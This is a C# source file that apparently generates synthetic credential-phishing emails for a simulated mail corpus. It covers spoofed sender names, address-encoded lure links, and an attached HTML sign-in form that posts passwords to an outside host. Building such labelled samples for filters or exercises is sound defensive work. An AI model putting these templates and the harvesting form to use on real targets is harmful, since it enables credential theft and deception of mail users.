using System.Text;
using Serjeant.Samples.Deliveries;
using Serjeant.Samples.Mime;
using Serjeant.Samples.People;
using Serjeant.Samples.Places;

namespace Serjeant.Samples.Mail;

/// <summary>
/// A wave of credential phishing within three days, from two or three accounts that were broken into, so that SPF and DKIM
/// pass for a domain that has nothing to do with the house.
/// </summary>
internal sealed class CredentialPhishing(World world)
{
    private readonly Dice dice = world.Fork("credentials");

    public IEnumerable<Copy> Make()
    {
        var count = dice.Between(12, 20);
        var begin = world.Clock.Moment(dice);
        var hosts = dice.Some(world.Prose.All("credentials.hosts"), 2);
        var lures = dice.Some(["mailbox", "session", "shared", "held"], 3);
        var accounts = dice.Some(world.Prose.All("organisations.hacked"), dice.Between(2, 3)).Select((domain, i) =>
            new HackedAccount($"{dice.Pick(["office", "info", "admin", "reception", dice.Letters(1) + "." + NameMaker.LocalPart(dice.Pick(world.Prose.All("names.english.family")))])}@{domain}", lures[i], hosts[i % 2])).ToList();
        var targets = dice.Some(world.Roster.People.Where(p => p.Official is not null), count);
        for (var i = 0; i < count; i++)
            yield return One(accounts[i % accounts.Count], targets[i], begin.AddMinutes(dice.Below(3 * 24 * 60)));
    }

    private Copy One(HackedAccount account, Person target, DateTimeOffset at)
    {
        var cloud = dice.Fork(account.Address).Pick(world.Prose.All("organisations.clouds")).Split('|');
        var address = target.Official!;
        var token = Convert.ToBase64String(Encoding.ASCII.GetBytes(address));
        var link = $"https://{account.Host}/{(account.Lure == "shared" ? cloud[0].Replace(" ", "", StringComparison.Ordinal).ToLowerInvariant() : Roster.OurDomain)}/{dice.Fork(account.Address).Pick(["login/?e=", "auth/#", "index.php?u=", "s/"])}{token}";
        var slots = World.SlotsFor(target);
        (slots["user"], slots["cloud"], slots["shared"], slots["paper"], slots["link"]) =
            (dice.Chance(50) ? address : target.PlainName, cloud[0], dice.Pick(world.Roster.Members.ToList()).PlainName, world.Prose.Of("credentials.paper", dice, []), "[[link]]");
        var body = world.Prose.Of("credentials.body." + account.Lure, dice, slots);
        var subject = Subject(account.Lure, slots);
        var shown = account.Lure == "shared" ? $"{slots["shared"]} via {cloud[0]}" : dice.Fork(account.Address).Pick(["IT Support", "Parliament Digital Service", "Mail Administrator", "parliament.example", "Help Desk"]);
        List<Field> fields =
        [
            new("Date", HeaderText.Date(at)), new("From", HeaderText.Mailbox(shown, account.Address, quoted: true)), new("To", address), new("Subject", HeaderText.Encode(subject)),
            new("Message-ID", $"<{dice.Hex(32)}@{Origins.DomainOf(account.Address)}>"), new("MIME-Version", "1.0"),
        ];
        if (dice.Chance(55))
            fields.Insert(5, new("X-Priority", "1"));
        Part content = new MultiPart("alternative", dice.Hex(28),
            [new TextPart("text/plain", body.Replace("[[link]]", link, StringComparison.Ordinal)), new TextPart("text/html", ToHtml(body, link, account), "base64")]);
        // In place of the link some carry the login form itself.
        if (dice.Chance(25))
            content = new MultiPart("mixed", dice.Hex(30), [content, new FilePart("text/html", $"{dice.Pick(["Document", "Messages", "Voice", "Form"])}_{dice.Digits(4)}.html", Form(address, account))]);
        return world.Post.Deliver(new Draft(fields, content), world.Origins.Organisation(account.Address, at, dice), address, at.AddSeconds(dice.Between(2, 20)), "credentials", "hostile", dice);
    }

    private string Subject(string lure, Slots slots)
    {
        var all = world.Prose.All("credentials.subject");
        var template = lure switch { "mailbox" => all[0], "session" => dice.Pick([all[1], all[3]]), "shared" => all[2], _ => all[4] };
        return world.Prose.Expand(template, dice, slots);
    }

    private string ToHtml(string body, string link, HackedAccount account)
    {
        var text = account.Lure == "shared" ? "Open document" : dice.Fork(account.Address + "text").Pick([$"https://webmail.{Roster.OurDomain}/login", $"https://mail.{Roster.OurDomain}/account", $"webmail.{Roster.OurDomain}"]);
        var paragraphs = body.Split("\n\n").Select(p => $"<p>{Html.Escape(p).Replace("\n", "<br>", StringComparison.Ordinal)}</p>\n");
        return $"<html><body style=\"font-family:Segoe UI,Arial\"><div style=\"border:1px solid #ccc;padding:20px;max-width:520px\">\n{string.Concat(paragraphs).Replace("[[link]]", $"<a href=\"{Html.Escape(link)}\">{text}</a>", StringComparison.Ordinal)}</div></body></html>\n";
    }

    private static byte[] Form(string address, HackedAccount account) => Encoding.ASCII.GetBytes(
        $"<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>\n<form method=\"post\" action=\"https://{account.Host}/post.php\">\n<h3>Sign in to continue</h3>\n<input type=\"email\" name=\"login\" value=\"{address}\" readonly><br>\n<input type=\"password\" name=\"passwd\" placeholder=\"Password\"><br>\n<button>Sign in</button>\n</form></body></html>\n");

    private sealed record HackedAccount(string Address, string Lure, string Host);
}
